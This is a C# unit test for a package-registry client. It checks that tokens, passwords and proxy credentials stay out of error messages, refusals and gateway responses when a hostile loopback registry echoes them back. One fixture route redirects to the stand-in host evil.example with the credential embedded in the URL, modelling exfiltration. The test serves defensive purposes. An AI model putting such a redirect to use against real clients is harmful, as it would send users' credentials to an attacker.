using System.Text;
using McpBox.Packages.Registries;
using McpBox.Packages.Tests.Hosting;

namespace McpBox.Packages.Tests.Registries;

/// <summary>A token, a password and a proxy's password go to their own places and are seen nowhere else.</summary>
public sealed class CanaryTests : IDisposable
{
    private const string Token = "canary-token-5b1f";
    private const string ProxyWord = "canary-proxy-9d3e";

    private readonly LoopbackRegistry _registry = new();
    private readonly StringBuilder _seen = new();

    [Fact]
    public void No_refusal_no_text_and_no_answer_to_the_inside_holds_a_secret()
    {
        // The registry repeats what it was sent, wherever it can.
        _registry.Map("/ok", request => LoopbackReply.Text("fine"));
        foreach (var status in (int[])[401, 403, 404, 407, 500, 503])
            _registry.Map($"/{status}", request => new LoopbackReply(status, Encoding.ASCII.GetBytes(Sent(request)), Sent(request), ("WWW-Authenticate", Sent(request))));
        _registry.Map("/redirect", request => LoopbackReply.Redirect($"http://{Uri.EscapeDataString(Sent(request))}@evil.example/?{Uri.EscapeDataString(Sent(request))}"));
        _registry.MapRaw("/garbage", (request, stream) => LoopbackRegistry.Write(stream, $"{Sent(request)}\r\n\r\n"));
        _registry.MapRaw("/length", (request, stream) => LoopbackRegistry.Write(stream, $"HTTP/1.1 200 {Sent(request)}\r\nContent-Length: {Sent(request)}\r\n\r\n"));

        foreach (var credential in new[] { RegistryCredential.Bearer(Token), RegistryCredential.Basic("user", Token) })
            Try(credential);

        var basic = Convert.ToBase64String(Encoding.ASCII.GetBytes($"user:{Token}"));
        Assert.Contains(_registry.Requests, request => request.Header("authorization") == $"Bearer {Token}");
        Assert.Contains(_registry.Requests, request => request.Header("authorization") == $"Basic {basic}");
        var seen = _seen.ToString();
        Assert.Contains("MB6312", seen, StringComparison.Ordinal);
        Assert.Contains("MB6315", seen, StringComparison.Ordinal);
        Assert.Contains("***", seen, StringComparison.Ordinal);
        foreach (var secret in (string[])[Token, ProxyWord, basic])
            Assert.DoesNotContain(secret, seen, StringComparison.OrdinalIgnoreCase);
    }

    public void Dispose() => _registry.Dispose();

    private static string Sent(LoopbackRequest request) => request.Header("authorization") ?? "nothing";

    private void Try(RegistryCredential credential)
    {
        var connection = new RegistryConnection
        {
            Origin = RegistryOrigin.Parse(_registry.Address, "registry", allowHttp: true),
            Credential = credential,
            Proxy = RegistryProxy.Parse($"http://user:{ProxyWord}@127.0.0.1:1", "proxy", "127.0.0.1"),
        };
        using var client = new RegistryClient(connection, new GatewayLimits());
        using var proxied = new RegistryClient(connection with { Origin = RegistryOrigin.Parse("https://registry.example", "registry") }, new GatewayLimits());
        var gateway = new RegistryGateway(
            new FixedRoutes(request =>
            {
                using var file = (request.Query == "proxied" ? proxied : client).Download(request.Path, new RegistryExpectation(), default);
                return new GatewayAnswer(200, file.MediaType, file.Open());
            }),
            new GatewayLimits());

        foreach (var path in (string[])["ok", "401", "403", "404", "407", "500", "503", "redirect", "garbage", "length", "a?proxied", "..", $"x/{Token.Length}"])
            _seen.AppendLine(InsideConnection.Get(gateway, $"/{path}"));
        _seen.AppendJoin('\n', gateway.Refusals).AppendLine($"{connection}{credential}{connection.Proxy}");
        foreach (var refusal in gateway.Refusals)
            _seen.AppendLine(new PackageException(refusal).ToString());
    }
}
